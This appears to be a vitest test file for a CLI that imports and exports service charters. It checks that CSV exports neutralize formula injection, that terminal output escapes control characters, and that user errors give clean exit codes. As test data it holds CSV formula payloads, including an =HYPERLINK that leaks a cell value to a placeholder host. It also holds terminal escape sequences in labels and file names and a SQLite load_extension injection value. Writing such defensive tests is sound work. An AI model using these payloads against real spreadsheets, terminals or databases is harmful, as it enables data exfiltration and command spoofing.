/**
 * What the read side writes, attacked: a charter whose cells are formulas (=HYPERLINK, +, -,
 * @) exported as CSV and opened in LibreOffice; labels and file names carrying terminal
 * escapes (ESC ] 0 ; ... BEL, ESC [ 31 m, CSI) printed by every human-readable output; and
 * the exit codes of what users get wrong (query syntax, --where, outputs that cannot be
 * written, a full disk). Through the real CLI.
 */
import { spawnSync } from "node:child_process";
import { closeSync, copyFileSync, existsSync, mkdirSync, openSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { csvLines } from "../src/analysis/writers.js";
import { BIN, cli } from "./helpers/cli.js";
import { CORPUS } from "./helpers/gold.js";
import { tempDir } from "./helpers/tmp.js";

const CSV_CHARTER = join(CORPUS, "c05-genova-urp-2020", "charter.csv");
const XLSX = join(CORPUS, "c05-genova-urp-2020", "charter.xlsx");

const OSC_TITLE = "\x1b]0;pwned\x07";
const RED = "\x1b[31m";
const CSI_CLEAR = "\u009b2J"; // the 8-bit CSI: clears the screen where a terminal reads C1
const EVIL_LABEL = `${OSC_TITLE}Qualità ${RED}rossa\x1b[0m`;
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(1,1)", "=SUM(A1:A9)"];

/** A CSV charter (the c05 fixture's own) whose first indicator's cells are formulas and whose labels carry escapes. */
function evilCharter(dir: string): string {
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const lines = readFileSync(CSV_CHARTER, "utf8").split("\n");
  const first = lines[7].split(";");
  first[1] = quote(EVIL_LABEL); // the quality factor: no dimension, a review item
  [first[2], first[3], first[4], first[6], first[7]] = FORMULAS.map(quote); // description, target, achieved, explanation, notes
  lines[7] = first.join(";");
  const second = lines[8].split(";");
  second[2] = `Ore di apertura reclami ${RED}rossi\x1b[0m${CSI_CLEAR}`;
  lines[8] = second.join(";");
  const path = join(dir, "evil.csv");
  writeFileSync(path, lines.join("\n"));
  return path;
}

/** RFC 4180 CSV cells (the header row included). */
function csvCells(text: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === "," || (ch === "\r" && text[i + 1] === "\n")) {
      cells.push(cell);
      cell = "";
      if (ch === "\r") i++;
    } else cell += ch;
  }
  return cells;
}

/** Cells a spreadsheet would run: text starting with = + - @ tab or CR (a number is a number). */
const live = (cells: string[]) => cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(c));

/** The formulas LibreOffice finds opening each CSV (converted to flat ODS), by file; null where soffice is not installed. */
function libreOfficeFormulas(files: string[], dir: string): Record<string, number> | null {
  const soffice = ["/usr/bin/soffice", "/usr/local/bin/soffice"].find((p) => existsSync(p));
  if (!soffice) return null;
  const out = join(dir, "lo");
  const r = spawnSync(soffice, [`-env:UserInstallation=file://${join(dir, "lo-profile")}`, "--headless", "--convert-to", "fods", "--outdir", out, ...files], { encoding: "utf8", timeout: 120_000 });
  if (r.status !== 0) throw new Error(`soffice failed: ${r.stderr}`);
  const counts: Record<string, number> = {};
  for (const f of readdirSync(out)) counts[f.replace(/\.fods$/, ".csv")] = (readFileSync(join(out, f), "utf8").match(/table:formula="/g) ?? []).length;
  return counts;
}

describe("CSV exports that cannot attack", () => {
  it("write text cells that begin like a formula with a leading ' (export, data package, search), numbers as numbers", async (ctx) => {
    const dir = tempDir();
    const db = join(dir, "c.sqlite");
    expect(cli(["import", evilCharter(dir), "--db", db]).status).toBe(0);
    const exported = join(dir, "export.csv");
    expect(cli(["export", "--format", "csv", "--out", exported, "--db", db]).status).toBe(0);
    expect(cli(["export", "--datapackage", join(dir, "pkg"), "--db", db]).status).toBe(0);
    const searched = cli(["search", "clic", "--format", "csv", "--db", db]);
    expect(searched.status).toBe(0);
    const texts = {
      export: readFileSync(exported, "utf8"),
      datapackage: readFileSync(join(dir, "pkg", "v_indicators.csv"), "utf8"),
      search: searched.stdout,
    };
    for (const [name, text] of Object.entries(texts)) {
      const cells = csvCells(text);
      expect(live(cells), name).toEqual([]);
      // Every formula of the charter is there, as text.
      for (const f of FORMULAS.slice(0, name === "search" ? 1 : FORMULAS.length)) expect(cells, `${name}: ${f}`).toContain(`'${f}`);
    }
    // JSON lines keep the text exact.
    const jsonl = cli(["export", "--format", "jsonl", "--db", db]).stdout;
    expect(jsonl.split("\n").filter(Boolean).map((l) => JSON.parse(l).description)).toContain(FORMULAS[0]);

    // LibreOffice opens the export with no live formula; the same file without the ' has them.
    const unsafe = join(dir, "unsafe.csv");
    writeFileSync(unsafe, texts.export.replace(/(^|,)("?)'(?=[=+\-@\t])/gm, "$1$2"));
    expect(live(csvCells(readFileSync(unsafe, "utf8"))).length).toBeGreaterThanOrEqual(FORMULAS.length);
    const found = libreOfficeFormulas([exported, unsafe], dir);
    if (!found) return ctx.skip("LibreOffice (soffice) is not installed: the bytes were checked, not a spreadsheet's reading of them");
    expect(found["unsafe.csv"]).toBeGreaterThan(0);
    expect(found["export.csv"]).toBe(0);
  }, 180_000);

  it("leave numbers unquoted and unprefixed, negative ones too; only text is neutralized", () => {
    const rows = [
      { n: -5, s: "-5", t: "=1+1" },
      { n: 2.5, s: "@x", t: "ok" },
      { n: null, s: "\t=1", t: "\r=1" },
    ];
    expect([...csvLines(["n", "s", "t"], rows, { bom: false })]).toEqual(["n,s,t\r\n", "-5,'-5,'=1+1\r\n", "2.5,'@x,ok\r\n", ',\'\t=1,"\'\r=1"\r\n']);
  });
});

/** Whether a text holds a byte a terminal obeys: C0 but tab and line feed, DEL, C1. */
const controls = (s: string) => s.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g) ?? [];

describe("terminals", () => {
  it("get no control character from the data: the import's text log and summary, review, alias, search, inspect, errors", () => {
    const dir = tempDir();
    const root = join(dir, "in");
    mkdirSync(root);
    const charter = evilCharter(dir);
    copyFileSync(charter, join(root, "evil.csv"));
    copyFileSync(XLSX, join(root, `carta-${OSC_TITLE}.xlsx`));
    writeFileSync(join(root, `rotto-${RED}.pdf`), "%PDF-1.4 not really");
    const db = join(dir, "c.sqlite");
    const outputs: Record<string, { stdout: string; stderr: string }> = {
      import: cli(["import", root, "--db", db, "--log-format", "text"]),
      review: cli(["review", "--db", db]),
      reviewJson: cli(["review", "--db", db, "--format", "jsonl"]),
      alias: cli(["alias", "dimension", EVIL_LABEL, "equita", "--db", db]),
      aliasList: cli(["alias", "--list", "--db", db]),
      aliasError: cli(["alias", "--remove", "dimension", `${OSC_TITLE}Altro`, "--db", db]),
      search: cli(["search", "reclami", "--db", db]),
      inspect: cli(["inspect", charter, "--table"]),
      inspectError: cli(["inspect", join(root, `rotto-${RED}.pdf`)]),
    };
    expect(outputs.import.stdout).toContain("carta-\\x1b]0;pwned\\x07.xlsx: new");
    expect(outputs.import.stdout).toContain("rotto-\\x1b[31m.pdf: FAILED");
    expect(outputs.review.stdout).toContain("\\x1b]0;pwned\\x07Qualità \\x1b[31mrossa\\x1b[0m");
    expect(outputs.aliasList.stdout).toContain("\\x1b]0;pwned\\x07Qualità");
    expect(outputs.aliasError.stderr).toContain("\\x1b]0;pwned\\x07Altro");
    expect(outputs.search.stdout).toContain("\\x1b[31mrossi\\x1b[0m\\x9b"); // the cell is cut at 40 characters
    for (const [name, o] of Object.entries(outputs).filter(([n]) => n !== "reviewJson")) {
      expect(controls(o.stdout), `${name} stdout`).toEqual([]);
      expect(controls(o.stderr), `${name} stderr`).toEqual([]);
    }
    // JSON keeps the data exact.
    const jsonl = outputs.reviewJson.stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l));
    expect(jsonl.filter((l) => l.type === "label").map((l) => l.label)).toContain(EVIL_LABEL);
    const list = cli(["alias", "--list", "--format", "jsonl", "--db", db]).stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l).label);
    expect(list).toEqual([EVIL_LABEL]);
  });
});

describe("exit codes of what users get wrong", () => {
  it("a search query FTS5 cannot read, a --where SQLite refuses while running: exit 2, one line", () => {
    const dir = tempDir();
    const db = join(dir, "c.sqlite");
    expect(cli(["import", XLSX, "--db", db]).status).toBe(0);
    for (const q of ['"', "*", "nosuchcol:x", "AND"]) {
      const r = cli(["search", "--raw", q, "--db", db]);
      expect(r.status, q).toBe(2);
      expect(r.stderr, q).toMatch(/^charters: bad search query .*\n$/);
    }
    for (const where of ["load_extension('/tmp/x')", "abs(-9223372036854775808) > 0"]) {
      const r = cli(["export", "--format", "csv", "--where", where, "--db", db]);
      expect(r.status, where).toBe(2);
      expect(r.stderr, where).toMatch(/^charters: bad --where .*(not authorized|integer overflow)\n$/);
    }
  });

  it("an output that cannot be written: exit 2 for the path, 3 for a full disk, one line, no stack", (ctx) => {
    if (!existsSync("/dev/full")) return ctx.skip("no /dev/full on this system");
    const dir = tempDir();
    const db = join(dir, "c.sqlite");
    expect(cli(["import", XLSX, "--db", db]).status).toBe(0);
    const aFile = join(dir, "a-file");
    writeFileSync(aFile, "");
    const cases: [string[], number, RegExp][] = [
      [["export", "--format", "csv", "--out", join(dir, "nowhere", "x.csv")], 2, /cannot write .*x\.csv: no such file or directory \(ENOENT\)/],
      [["export", "--format", "csv", "--out", "/dev/full"], 3, /cannot write \/dev\/full: no space left on device \(ENOSPC\)/],
      [["export", "--format", "xlsx", "--out", "/dev/full"], 3, /cannot write \/dev\/full: no space left on device \(ENOSPC\)/],
      [["export", "--datapackage", join(aFile, "pkg")], 2, /cannot write .*a-file\/pkg.*\(ENOTDIR\)/],
      [["report", "--out", "/dev/full"], 3, /cannot write \/dev\/full: no space left on device \(ENOSPC\)/],
      [["report", "--out", join(aFile, "r.html")], 2, /cannot write .*r\.html: .*\(ENOTDIR\)/],
      [["alias", "--export", "/dev/full"], 3, /cannot write \/dev\/full: no space left on device \(ENOSPC\)/],
    ];
    for (const [args, status, message] of cases) {
      const r = cli([...args, "--db", db]);
      expect(r.status, args.join(" ")).toBe(status);
      expect(r.stderr, args.join(" ")).toMatch(message);
      expect(r.stderr.trim().split("\n"), args.join(" ")).toHaveLength(1);
    }
    // Standard output on a full disk.
    const full = openSync("/dev/full", "w");
    try {
      for (const args of [["export", "--format", "csv"], ["search", "reclami"], ["review"]]) {
        const r = spawnSync(process.execPath, [BIN, ...args, "--db", db], { stdio: ["ignore", full, "pipe"], encoding: "utf8" });
        expect(r.status, args.join(" ")).toBe(3);
        expect(r.stderr, args.join(" ")).toBe("charters: cannot write standard output: no space left on device (ENOSPC)\n");
      }
    } finally {
      closeSync(full);
    }
  });

  it("an alias whose label has no letter is refused (exit 2)", () => {
    const dir = tempDir();
    const db = join(dir, "c.sqlite");
    expect(cli(["import", XLSX, "--db", db]).status).toBe(0);
    for (const label of ["%", "_", "12 %"]) {
      const r = cli(["alias", "dimension", label, "equita", "--db", db]);
      expect(r.status, label).toBe(2);
      expect(r.stderr, label).toMatch(/has no letter/);
    }
    expect(cli(["alias", "--list", "--format", "jsonl", "--db", db]).stdout).toBe("");
  });
});
